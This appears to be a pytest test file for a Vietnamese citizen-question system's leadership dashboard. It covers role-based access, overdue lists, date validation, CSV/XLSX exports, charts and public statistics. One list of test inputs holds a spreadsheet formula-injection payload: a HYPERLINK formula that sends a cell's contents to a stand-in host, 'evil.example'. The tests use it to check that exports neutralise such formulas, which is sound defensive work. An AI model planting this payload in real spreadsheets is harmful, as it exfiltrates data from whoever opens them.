"""The leadership dashboard through the HTTP stack: who sees what, the worst first, filters and bad dates."""

import csv
import io
import re
from datetime import datetime, timedelta

import openpyxl
import pytest
import sqlalchemy as sa
from litestar.testing import AsyncTestClient

from feedback import handling
from feedback.charts import grouped_bars, rate_line
from feedback.exports import Column, Table, as_csv
from feedback.performance import last_twelve_months
from notify.db import Database, utcnow
from routing.calendar import VIETNAM
from routing.models import Department
from tests.factories import add_staff, log_in, submit


@pytest.fixture
async def office(database: Database, tmp_path) -> dict[str, str]:
    """Staff, a question of Sở Xây dựng overdue for weeks and a fresh one of Sở Y tế; their references."""
    for username, role, department in (
        ("lanhdao", "leader", None),
        ("yt.tp", "head", "SYT"),
        ("xd.cv", "officer", "SXD"),
    ):
        await add_staff(database, username, role, department)
    asked = {}
    for name, category, days_ago in (("late", "giay-phep-xay-dung", 40), ("fresh", "y-te", 0)):
        when = utcnow() - timedelta(days=days_ago)
        submitted = await submit(database, tmp_path, now=when, category=category)
        async with database.transaction() as session:
            await handling.accept(session, submitted.ticket_id, actor_id=None, now=when)
        asked[name] = submitted.reference
    return asked


def _text(markup: str) -> str:
    return re.sub(r"<[^>]+>|\s+", " ", markup).strip()


def figures_of(html: str) -> list[list[str]]:
    """Each body row of the page's first table as text: its header, then its cells without the
    names a phone shows above each figure."""
    body = html.split("<tbody>")[1].split("</tbody>", maxsplit=1)[0]
    body = re.sub(r'<span class="cell-label">[^<]*</span>', "", body)
    return [
        [_text(header), *(_text(cell) for cell in re.findall(r"<td>(.*?)</td>", cells, re.S))]
        for header, cells in re.findall(r'<th scope="row">(.*?)</th>(.*?)</tr>', body, re.S)
    ]


def rows_of(html: str) -> list[str]:
    """The department names of the table's body, in order."""
    body = html.split("<tbody>")[1].split("</tbody>", maxsplit=1)[0]
    return re.findall(r'<th scope="row"><a [^>]*>([^<]+)</a>', body)


async def test_a_leader_sees_the_late_department_first_and_can_sort(client: AsyncTestClient, office) -> None:
    await log_in(client, "lanhdao")
    page = await client.get("/can-bo/bang-dieu-khien")
    assert page.status_code == 200 and '<html lang="vi">' in page.text
    assert "Bảng điều khiển" in page.text and "quá hạn" in page.text
    assert rows_of(page.text) == ["Sở Xây dựng", "Sở Y tế"]  # the overdue one first
    assert re.search(r'<span class="card-figure">1</span> quá hạn', page.text)
    by_name = await client.get("/can-bo/bang-dieu-khien", params={"sort": "name"})
    assert rows_of(by_name.text) == ["Sở Xây dựng", "Sở Y tế"] and 'aria-sort="descending"' in by_name.text


async def test_a_head_sees_only_their_department(client: AsyncTestClient, office) -> None:
    await log_in(client, "yt.tp")
    page = await client.get("/can-bo/bang-dieu-khien", params={"department": "1"})  # asking for another: ignored
    assert rows_of(page.text) == ["Sở Y tế"]
    overdue = await client.get("/can-bo/bang-dieu-khien/qua-han")
    assert office["late"] not in overdue.text and "Không có câu hỏi nào quá hạn." in overdue.text


async def test_the_overdue_list_links_every_late_question_and_filters(
    client: AsyncTestClient, database: Database, office
) -> None:
    await log_in(client, "lanhdao")
    page = await client.get("/can-bo/bang-dieu-khien/qua-han")
    assert f'href="/can-bo/cau-hoi/{office["late"]}"' in page.text and office["fresh"] not in page.text
    async with database.transaction() as session:
        health = await session.scalar(sa.select(Department.id).where(Department.code == "SYT"))
    elsewhere = await client.get("/can-bo/bang-dieu-khien/qua-han", params={"department": str(health)})
    assert office["late"] not in elsewhere.text
    escalated = await client.get("/can-bo/bang-dieu-khien/qua-han", params={"level": "3"})
    assert office["late"] not in escalated.text  # nothing has escalated: the scan has not run


@pytest.mark.parametrize(
    ("dates", "message"),
    [
        ({"from": "2026-11-30", "to": "2026-11-01"}, "Ngày kết thúc của khoảng thời gian ở trước ngày bắt đầu."),
        ({"from": "30/02/2026", "to": "2026-11-01"}, "Hãy nhập ngày theo dạng ngày/tháng/năm."),
        ({"to": "2026-11-01"}, "Vui lòng nhập thông tin này."),
    ],
)
async def test_chosen_dates_that_make_no_sense_are_explained(
    client: AsyncTestClient, office, dates: dict[str, str], message: str
) -> None:
    await log_in(client, "lanhdao")
    page = await client.get("/can-bo/bang-dieu-khien", params={"period": "custom", **dates})
    assert page.status_code == 422 and message in page.text and 'aria-invalid="true"' in page.text


async def test_officers_do_not_see_the_dashboard(client: AsyncTestClient, office) -> None:
    await log_in(client, "xd.cv")
    assert (await client.get("/can-bo/bang-dieu-khien")).status_code == 403


async def test_the_department_table_downloads_as_csv_that_excel_reads(client: AsyncTestClient, office) -> None:
    await log_in(client, "lanhdao")
    response = await client.get("/can-bo/bang-dieu-khien/xuat/don-vi", params={"format": "csv"})
    assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="cau-noi-don-vi-' in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Cơ quan", "Đã tiếp nhận", "Đã trả lời"] and rows[0][6] == "Đang quá hạn"
    construction = next(row for row in rows if row[0] == "Sở Xây dựng")
    assert construction[6] == "1"
    assert rows[-1][0] == "Tất cả cơ quan"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Xem hướng dẫn")',
    "+84 912 345 678 có gọi lại được không",
    "-5% phí trước bạ có đúng không",
    "@Sở Xây dựng: hồ sơ nộp ở đâu",
]
"""Citizens' titles that a spreadsheet would run as formulas if they began a cell."""


async def test_titles_that_look_like_formulas_download_as_text(
    client: AsyncTestClient, database: Database, tmp_path, office
) -> None:
    for title in FORMULAS:
        await submit(database, tmp_path, title=title)
    await log_in(client, "lanhdao")
    download = await client.get("/can-bo/bang-dieu-khien/xuat/cau-hoi", params={"format": "csv"})
    titles = [row[1] for row in csv.reader(io.StringIO(download.content.decode("utf-8-sig")))][1:]
    assert sorted("'" + title for title in FORMULAS) == sorted(t for t in titles if t.startswith("'"))
    assert not [t for t in titles if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    workbook = await client.get("/can-bo/bang-dieu-khien/xuat/cau-hoi", params={"format": "xlsx"})
    cells = {row[1].value: row[1] for row in openpyxl.load_workbook(io.BytesIO(workbook.content)).active.iter_rows()}
    assert all(cells[title].data_type == "s" for title in FORMULAS)  # the title itself, as a string


def test_every_text_cell_that_begins_like_a_formula_is_written_as_text() -> None:
    table = Table(
        "Sheet", [("Name", Column.TEXT), ("Days", Column.DAYS)], [[start + "1+1", 2.0] for start in "=+-@\t\r"]
    )
    rows = list(csv.reader(io.StringIO(as_csv(table).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + start + "1+1" for start in "=+-@\t\r"]
    assert as_csv(Table("Sheet", [("Name", Column.TEXT)], [["Sở Y tế"], ["a=b"]])).decode().splitlines()[1:] == [
        "Sở Y tế",
        "a=b",
    ]


async def test_the_questions_and_the_overdue_list_download_as_xlsx(client: AsyncTestClient, office) -> None:
    await log_in(client, "lanhdao")
    month = await client.get("/can-bo/bang-dieu-khien/xuat/cau-hoi", params={"format": "xlsx", "period": "quarter"})
    assert month.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(month.content)).active
    header, *rows = list(sheet.values)
    assert sheet.title == "Câu hỏi" and header[0] == "Mã số" and header[8] == "Kết quả"
    by_reference = {row[0]: row for row in rows}
    assert by_reference[office["late"]][8] == "Quá hạn" and by_reference[office["fresh"]][8] == "Chưa đến hạn"
    assert isinstance(by_reference[office["late"]][5], datetime)  # a date Excel can sort and filter
    overdue = await client.get("/can-bo/bang-dieu-khien/xuat/qua-han", params={"format": "xlsx"})
    header, *rows = list(openpyxl.load_workbook(io.BytesIO(overdue.content)).active.values)
    assert [row[0] for row in rows] == [office["late"]]


async def test_an_unknown_export_is_not_found(client: AsyncTestClient, office) -> None:
    await log_in(client, "lanhdao")
    assert (await client.get("/can-bo/bang-dieu-khien/xuat/mat-khau")).status_code == 404
    assert (await client.get("/can-bo/bang-dieu-khien/xuat/don-vi", params={"format": "pdf"})).status_code == 404


async def test_the_charts_are_svg_with_their_figures_in_tables(client: AsyncTestClient, office) -> None:
    await log_in(client, "lanhdao")
    page = await client.get("/can-bo/bang-dieu-khien")
    assert page.text.count('<svg viewBox="0 0 640') == 3 and page.text.count('role="img"') == 3
    assert '<title id="chart-weekly-title">Tiếp nhận và trả lời theo tuần</title>' in page.text
    weekly = page.text.split('id="chart-weekly-caption"')[1].split("</figure>", maxsplit=1)[0]
    last_week = re.findall(r'<tr><th scope="row">[^<]+</th><td>(\d+)</td><td>(\d+)</td></tr>', weekly)[-1]
    assert last_week == ("1", "0")  # this week: the fresh question, nothing answered
    overdue = page.text.split('id="chart-overdue-caption"')[1].split("</figure>", maxsplit=1)[0]
    assert '<th scope="row">Sở Xây dựng</th><td>1</td>' in overdue and "Sở Y tế" not in overdue


def test_bars_are_as_tall_as_their_values_on_a_round_scale() -> None:
    chart = grouped_bars(["02/11", "09/11"], [[3, 7], [0, 5]], ["Tiếp nhận", "Đã trả lời"])
    assert [t.text for t in chart.y_ticks] == ["0", "2", "4", "6", "8"]
    heights = {(bar.series, bar.value): bar.height for bar in chart.bars}
    assert heights[(0, 7)] == pytest.approx(7 / 3 * heights[(0, 3)]) and heights[(1, 0)] == 0
    assert all(bar.y + bar.height == pytest.approx(chart.plot_bottom) for bar in chart.bars)
    line = rate_line(["02/11", "09/11", "16/11"], [1.0, None, 0.5], "Đúng hạn")
    assert len(line.points) == 2 and line.points[0][1] < line.points[1][1]  # a gap where no answer was given


async def test_the_public_statistics_show_each_department_and_nobody(client: AsyncTestClient, office) -> None:
    page = await client.get("/thong-ke")  # no login
    assert page.status_code == 200 and "Kết quả trả lời câu hỏi" in page.text
    chosen = last_twelve_months(utcnow().astimezone(VIETNAM).date())
    period = f"từ {chosen.first:%d/%m/%Y} đến {chosen.last:%d/%m/%Y}"
    assert _text(page.text).count(period) == 1 and page.text.count(f"{chosen.first:%d/%m/%Y}") == 1
    assert "tháng gần nhất" not in page.text  # the period is stated once, by its dates
    assert "nên một cơ quan có thể trả lời nhiều câu hỏi hơn số đã tiếp nhận" in _text(page.text)
    received_answered = [row[:3] for row in figures_of(page.text)]
    assert received_answered == [["Sở Xây dựng", "1", "0"], ["Sở Y tế", "1", "0"]]
    for private in ("Nguyễn Thị Hồng", "hong.nguyen@example.com", "0912", office["late"]):
        assert private not in page.text


async def test_an_english_reader_sees_the_overdue_list_in_english(client: AsyncTestClient, office) -> None:
    await log_in(client, "lanhdao")
    await client.get("/ngon-ngu/en", params={"next": "/can-bo/bang-dieu-khien/qua-han"})
    page = await client.get("/can-bo/bang-dieu-khien/qua-han")
    [row] = figures_of(page.text)
    assert row[0].startswith(office["late"]) and row[1] == "Department of Construction"
    assert "Sở Xây dựng" not in page.text.split("<tbody>")[1]
